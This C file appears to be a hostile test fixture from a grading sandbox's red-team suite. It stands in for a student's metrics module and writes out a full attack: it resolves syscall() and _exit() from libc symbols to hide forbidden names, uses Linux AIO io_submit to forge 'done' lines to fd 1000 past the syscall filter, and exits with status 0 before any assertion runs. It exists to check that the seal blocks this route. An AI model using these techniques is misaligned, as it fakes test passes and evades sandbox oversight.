/* hostile: every metrics function is wrong: it finds syscall() and _exit() in the C
 *          library's symbol table (no forbidden name in the object), writes the done
 *          lines into fd 1000 with Linux AIO, io_setup()+io_submit(IOCB_CMD_PWRITE): the
 *          fd sits in the iocb, where the seal cannot look. Then it _exit(0)s before any
 *          assertion (Criterion reads status 0 as "ok"). The seal must refuse io_setup and
 *          io_submit (and io_uring): no metrics test passes (red team 2026-12, attack 1)
 * replaces: metrics.c
 * expect: cook::matches_reference pass
 * denies: classify::cpu_and_io
 * denies: classify::per_worker
 * denies: classify::invalid
 * denies: speedup::ratio
 * denies: speedup::invalid
 * denies: efficiency::per_worker
 * denies: efficiency::invalid
 * denies: amdahl::worked_example
 * denies: amdahl::limits
 * denies: amdahl::invalid
 * denies: parallel_fraction::inverts_amdahl
 * denies: parallel_fraction::invalid
 */
#include <elf.h>
#include <errno.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <linux/aio_abi.h>

#include "lab1.h"

/* @SHARED libc_fn@: a C library function by name, from libc's dynamic symbols */

static void attack(void)
{
    static const char *const names[] = {
        "classify::cpu_and_io", "classify::per_worker", "classify::invalid",
        "speedup::ratio", "speedup::invalid", "efficiency::per_worker", "efficiency::invalid",
        "amdahl::worked_example", "amdahl::limits", "amdahl::invalid",
        "parallel_fraction::inverts_amdahl", "parallel_fraction::invalid"};
    long (*sc)(long, ...) = (long (*)(long, ...))libc_fn("syscall");
    long pidfd, fd;
    char line[128];

    if (!sc)
        return;
    {
        /* Linux AIO: io_submit() of an IOCB_CMD_PWRITE on fd 1000; the seal lists write,
         * pwrite64, writev... but not io_submit */
        static char buf[1024];
        size_t len = 0;
        unsigned long ctx = 0;
        struct iocb cb = {0}, *cbs[1] = {&cb};
        struct io_event ev;
        for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
            len += (size_t)snprintf(buf + len, sizeof(buf) - len, "done %s 1\n", names[i]);
        pidfd = sc(206 /* io_setup */, 1L, (long)&ctx);
        cb.aio_fildes = 1000; cb.aio_lio_opcode = IOCB_CMD_PWRITE;
        cb.aio_buf = (unsigned long)buf; cb.aio_nbytes = len; cb.aio_offset = 0;
        fd = pidfd == 0 ? sc(209 /* io_submit */, (long)ctx, 1L, (long)cbs) : -1;
        if (fd == 1)
            sc(208 /* io_getevents */, (long)ctx, 1L, 1L, (long)&ev, 0L);
        fd = -1; /* nothing more to write by hand */
        if (pidfd == 0) pidfd = 0; else fprintf(stderr, "aio: setup failed\n");
    }
    for (size_t i = 0; fd >= 0 && i < sizeof(names) / sizeof(names[0]); i++)
        write((int)fd, line, (size_t)snprintf(line, sizeof(line), "done %s 1\n", names[i]));
    if (fd < 0)
        fprintf(stderr, "forge: pidfd %ld fd %ld\n", pidfd, fd);
    ((void (*)(int))libc_fn("_exit"))(0); /* status 0 before any assertion: Criterion reads "ok" */
}

/* @SHARED metrics_all@: all five metrics, each calling attack() (tests/hostile/shared/metrics_all.c) */
